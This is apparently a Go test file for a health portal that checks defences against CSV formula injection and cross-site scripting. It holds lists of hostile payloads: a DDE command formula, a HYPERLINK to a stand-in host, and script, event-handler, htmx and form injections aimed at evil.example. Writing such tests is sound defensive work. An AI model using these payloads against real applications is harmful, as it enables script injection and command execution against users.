package attacks

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"healthportal/app/web"
)

// formulas are texts that spreadsheets would run.
func formulas() []string {
	return []string{`=HYPERLINK("https://evil.example","x")`, "=1+1", "+1+1", "-1+1", "@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", `"=1+1`, `x","=1+1`, "|cmd", "%0D=1", "=cmd|' /C calc'!A0", " =1", "\u00a0=1", ";=1", "'=1"}
}

// Defence: csvguard.Cell on every text cell, and RFC 4180 quoting.
func TestAttack38_CSVFormulas(t *testing.T) {
	w := newClinic(t)
	privacy := w.as("privacy")
	var names []string
	for i, text := range formulas() {
		name := "user" + itoa(int64(i))
		if code, _, _ := w.try("user", "add", name, "--display-name", text, "--role", "clinician", "--team", "Team A"); code == 0 {
			names = append(names, text)
		}
		p := &patient{number: text, family: "F", given: "G", birth: "1980-01-01", team: "Team A"}
		w.admitAs(p, "p"+itoa(int64(i)), 1)
		w.exec("INSERT INTO audit.entry (chain, seq, at, kind, outcome, user_id, person_id, subject, route, address, detail, roles, session_id, key_id, request_id, mac_key, hash) "+
			"SELECT 'forged', $1, now(), $2, 'done', coalesce((SELECT id FROM auth.user_account WHERE name = $3), 0), $4, $2, $2, $2, $2, $2, $2, $2, $2, 'k', decode(repeat('00', 32), 'hex')",
			i+1, text, name, p.id)
	}
	if len(names) < 8 {
		t.Fatalf("only %d hostile names were taken", len(names))
	}
	export := privacy.get("/admin/audit/export.csv").want(http.StatusOK)
	files := map[string]string{"page": export.body, "command": w.run("audit", "export", "--format", "csv")}
	for what, text := range files {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		found := 0
		for _, row := range rows {
			for column, cell := range row {
				found += checkCell(t, what+", column "+rows[0][column], cell)
			}
		}
		if found < len(formulas())*5 {
			t.Errorf("%s: only %d guarded cells: the hostile texts did not come through", what, found)
		}
		if strings.Count(text, "\n") != strings.Count(text, "\r\n") {
			t.Errorf("%s: lines do not end with CR LF", what)
		}
	}
	if !strings.HasPrefix(export.header.Get("Content-Disposition"), "attachment;") || export.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("headers %v", export.header)
	}
}

// checkCell fails the test for a cell that a spreadsheet would run, and counts guarded ones.
func checkCell(t *testing.T, where, cell string) int {
	t.Helper()
	trimmed := strings.TrimLeft(cell, " \u00a0\t\r\n")
	if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r\n") || trimmed != "" && strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", []rune(trimmed)[0]) {
		t.Errorf("%s: the cell %q is a formula", where, cell)
	}
	if strings.HasPrefix(cell, "'") {
		return 1
	}
	return 0
}

// hostile are texts that a page must show as text. Each carries the word evil.
func hostile() []string {
	return []string{
		`"><script>evil()</script>`, `'><img src=x onerror=evil()>`, `</title><svg/onload=evil()>`, `" onmouseover="evil()" x="`, `' onfocus='evil()' autofocus='`,
		`" hx-get="https://evil.example" hx-trigger="load" x="`, `" hx-on::load="evil()" data-hx-get="/evil`, `javascript:evil()`, `{{evil}}${evil}<%= evil %>`,
		`--><script>evil()</script><!--`, `]]><script>evil()</script>`, `<iframe srcdoc="<script>evil()</script>">`, `<base href="https://evil.example/">`, `<style>@import 'https://evil.example'</style>`,
		`<form action="https://evil.example"><button>evil`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `</textarea></select></option><script>evil()</script>`, "evil\u202e\u2066txt.exe",
		`\u003cscript\u003eevil()`, `&lt;script&gt;evil()&lt;/script&gt;`, `<a href="https://evil.example">evil</a>`, `"}</script><script>evil()//`, `<x hx-disable hx-boost="true" hx-post="//evil.example">`,
	}
}

// Defence: templ's contextual escaping, htmx without eval, and a policy without inline scripts.
func TestAttack40_XSS(t *testing.T) {
	w := newClinic(t)
	texts := hostile()
	p := &patient{number: texts[0], family: texts[1], given: texts[3], birth: "1950-02-03", team: "Team A"}
	w.admitAs(p, "hostile", 3)
	w.hostileEvents(texts)
	w.report("reports/none/x.html", "<!doctype html><title>"+texts[2]+"</title><p>x", nil)
	for i, text := range texts {
		w.report("loose/h"+itoa(int64(i))+"/r.pdf", samplePDF, map[string]any{"title": text, "summary": text + text, "kind": "evil-kind", "patient": map[string]any{"record_number": p.number},
			"risk": map[string]any{"level": text, "scale": text, "tool": text, "score": text}, "status": "final"})
		w.report("reports/named/"+strings.ReplaceAll(text, "/", "_")+".pdf", samplePDF, nil)
		if i < 8 {
			w.run("user", "add", "hostile"+itoa(int64(i)), "--display-name", text, "--role", "clinician", "--team", "Team A", "--team", "T "+strings.Map(printable, text))
		}
	}
	w.run("sync-reports")
	p.pdf = one[string](w, "SELECT report_id FROM analytics.genomics_reports WHERE person_id = $1 LIMIT 1", p.id)
	ada, admin := w.as("clinician"), w.as("admin")
	w.exec("UPDATE auth.user_account SET display_name = $1 WHERE id = ANY($2)", texts[0], []int64{ada.id, admin.id})
	w.exec("UPDATE auth.passkey SET name = $1", texts[3])
	w.exec("UPDATE auth.session SET browser = $1", texts[5])
	w.exec("UPDATE health.person SET research_consent = true")
	w.restart()
	w.exec("INSERT INTO auth.notice (user_id, kind, what) SELECT id, 'role', $1 FROM auth.user_account", texts[0])
	w.exec("INSERT INTO auth.break_glass (user_id, person_id, reason, started_at, expires_at, ended_at) VALUES ($1, $2, $3, now() - interval '2 hours', now() - interval '1 hour', now() - interval '90 minutes')", ada.id, p.id, texts[0]+texts[5])
	w.exec("INSERT INTO auth.api_key (id, user_id, name, secret_hash, scopes, expires_at) VALUES ('evilevil', $1, $2, decode(repeat('00', 32), 'hex'), '{events.read}', now() + interval '1 day')", ada.id, texts[1])
	seen := 0
	for _, rt := range web.RouteDocs() {
		who := w.reader(string(rt.Permission))
		if rt.Method != http.MethodGet || who == nil || strings.HasPrefix(rt.Path, "/v1/") || strings.HasSuffix(rt.Path, "/file") || strings.HasSuffix(rt.Path, ".csv") {
			continue
		}
		for _, path := range w.pagesOf(rt.Path, p, admin) {
			for _, edits := range [][]edit{nil, {set("HX-Request", "true")}} {
				got := who.get(path, edits...)
				if got.status >= 500 {
					t.Errorf("%s: %d", path, got.status)
				}
				got.clean(t)
				seen += strings.Count(got.body, "evil")
			}
		}
	}
	for _, text := range texts {
		ada.post("/genomics/reports", url.Values{"q": {text}}).clean(t)
		ada.post("/break-glass/find", url.Values{"record_number": {text}, "birth_date": {text}}).clean(t)
		admin.post("/admin/users/search", url.Values{"search": {text}}).clean(t)
		admin.post("/admin/users", url.Values{"name": {text}, "display_name": {text}, "roles": {text}}).clean(t)
		admin.post("/admin/teams", url.Values{"name": {text}}).clean(t)
		admin.post("/admin/api-keys", url.Values{"user": {text}, "name": {text}, "scope": {text}, "expires": {text}}).clean(t)
		w.caller().get("/login?next=" + url.QueryEscape(text)).clean(t)
		w.caller().get("/" + url.PathEscape(text)).clean(t)
	}
	if seen < 300 {
		t.Errorf("the hostile texts were seen %d times only", seen)
	}
}

func printable(r rune) rune {
	if r < 0x20 || r == 0x202e || r == 0x2066 || r == '"' {
		return 'x'
	}
	return r
}

// pagesOf are addresses of a route with ids that exist, and with hostile ones.
func (w *clinic) pagesOf(pattern string, p *patient, admin *human) []string {
	w.t.Helper()
	id := p.public
	switch {
	case strings.HasPrefix(pattern, "/genomics/"):
		id = p.pdf
	case strings.HasPrefix(pattern, "/admin/users/"):
		id = admin.publicID()
	case strings.HasPrefix(pattern, "/admin/teams/"):
		id = one[string](w, "SELECT public_id FROM auth.care_team WHERE name = 'Team A'")
	case strings.HasPrefix(pattern, "/research/participants/:"):
		body := w.as("researcher").get("/research/participants").body
		if _, rest, ok := strings.Cut(body, `href="/research/participants/`); ok {
			id, _, _ = strings.Cut(rest, `"`)
		}
	}
	bad := url.QueryEscape(hostile()[0])
	path := fillWith(pattern, id)
	pages := []string{path, path + "?next=" + bad + "&done=" + bad + "&q=" + bad + "&kind=" + bad}
	if pattern == "/dashboard/events" {
		pages = append(pages, path+"?person="+p.public, path+"?person="+p.public+"&metric="+bad)
	}
	if strings.Contains(pattern, "/:") {
		pages = append(pages, fillWith(pattern, url.PathEscape(hostile()[0])))
	}
	return pages
}

// hostileEvents imports values whose codes, units, sources, devices and texts are hostile.
func (w *clinic) hostileEvents(texts []string) {
	w.t.Helper()
	var lines strings.Builder
	for i, text := range texts {
		o := observation("hostile", "e"+itoa(int64(i)), time.Now().Add(-time.Hour).UTC(), 60+i)
		o["code"] = map[string]any{"text": text}
		o["valueQuantity"] = map[string]any{"value": i, "unit": text}
		o["device"] = map[string]any{"display": text}
		o["meta"] = map[string]any{"source": text}
		put(w, &lines, o)
		o = observation("hostile", "t"+itoa(int64(i)), time.Now().Add(-2*time.Hour).UTC(), 1)
		delete(o, "valueQuantity")
		o["valueString"] = text
		o["interpretation"] = []any{map[string]any{"coding": []any{map[string]any{"code": text}}}}
		put(w, &lines, o)
	}
	w.try("import", "events", w.write("import/hostile-events.ndjson", lines.String())) // some may be refused
	if n := one[int](w, "SELECT count(*) FROM health.metric WHERE name LIKE '%evil%' OR code LIKE '%evil%'"); n < 10 {
		w.t.Fatalf("only %d hostile metrics came in", n)
	}
}

func put(w *clinic, lines *strings.Builder, v any) {
	w.t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		w.t.Fatal(err)
	}
	lines.Write(append(b, '\n'))
}
